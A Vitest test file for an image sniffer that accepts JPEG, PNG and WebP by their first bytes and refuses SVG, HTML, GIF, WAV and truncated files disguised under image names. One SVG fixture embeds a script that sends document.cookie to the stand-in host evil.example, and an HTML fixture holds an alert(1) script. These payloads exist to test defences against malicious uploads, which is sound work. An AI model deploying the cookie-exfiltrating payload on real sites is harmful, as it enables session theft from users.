// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { pictureTypeOf, sniffPictureType } from './pictureType.ts';

const bytes = (...values: number[]) => new Uint8Array(values);
const text = (value: string) => new TextEncoder().encode(value);
const base64 = (value: string) => Uint8Array.from(atob(value), (char) => char.charCodeAt(0));

// The first bytes of real files, as a camera, a screenshot tool or a browser writes them.
const fixtures = {
  /** A camera JPEG: SOI, then its APP1 Exif segment. */
  cameraJpeg: bytes(0xff, 0xd8, 0xff, 0xe1, 0x1c, 0x45, 0x45, 0x78, 0x69, 0x66, 0x00, 0x00),
  /** A JFIF JPEG (SOI, APP0 'JFIF'). */
  jfifJpeg: bytes(0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01),
  /** A whole 1x1 PNG. */
  png: base64(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  ),
  /** A whole 1x1 lossless WebP. */
  webp: base64('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA=='),
  svg: text(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>',
  ),
  html: text('<!doctype html><html><body><script>alert(1)</script></body></html>'),
  gif: text('GIF89a\x01\x00\x01\x00\x80\x00\x00'),
  /** A WAV recording: RIFF like WebP, but not a picture. */
  wav: text('RIFF$\x00\x00\x00WAVEfmt '),
};

describe('pictureTypeOf', () => {
  it('knows JPEG, PNG and WebP by their first bytes', () => {
    expect(pictureTypeOf(fixtures.cameraJpeg)).toBe('jpeg');
    expect(pictureTypeOf(fixtures.jfifJpeg)).toBe('jpeg');
    expect(pictureTypeOf(fixtures.png)).toBe('png');
    expect(pictureTypeOf(fixtures.webp)).toBe('webp');
  });

  it('refuses SVG, HTML, GIF and other RIFF files', () => {
    expect(pictureTypeOf(fixtures.svg)).toBeUndefined();
    expect(pictureTypeOf(fixtures.html)).toBeUndefined();
    expect(pictureTypeOf(fixtures.gif)).toBeUndefined();
    expect(pictureTypeOf(fixtures.wav)).toBeUndefined();
  });

  it('refuses an empty file and a header cut short', () => {
    expect(pictureTypeOf(bytes())).toBeUndefined();
    expect(pictureTypeOf(fixtures.jfifJpeg.slice(0, 2))).toBeUndefined();
    expect(pictureTypeOf(fixtures.png.slice(0, 7))).toBeUndefined();
    // 'RIFF' and a length, the 'WEBP' after it missing.
    expect(pictureTypeOf(fixtures.webp.slice(0, 8))).toBeUndefined();
    expect(pictureTypeOf(fixtures.webp.slice(0, 11))).toBeUndefined();
  });
});

describe('sniffPictureType', () => {
  it('reads the bytes of a file, not its name or type', async () => {
    const named = (content: Uint8Array<ArrayBuffer>, name: string, type: string) =>
      new File([content], name, { type });
    expect(
      await sniffPictureType(named(fixtures.html, 'receipt.png', 'image/png')),
    ).toBeUndefined();
    expect(await sniffPictureType(named(fixtures.svg, 'sms.jpg', 'image/jpeg'))).toBeUndefined();
    expect(await sniffPictureType(named(fixtures.png, 'notes.txt', 'text/plain'))).toBe('png');
    expect(await sniffPictureType(named(fixtures.jfifJpeg, 'IMG_2041', ''))).toBe('jpeg');
    expect(await sniffPictureType(named(fixtures.webp, 'chat.webp', 'image/webp'))).toBe('webp');
    expect(await sniffPictureType(named(bytes(), 'empty.jpg', 'image/jpeg'))).toBeUndefined();
  });
});
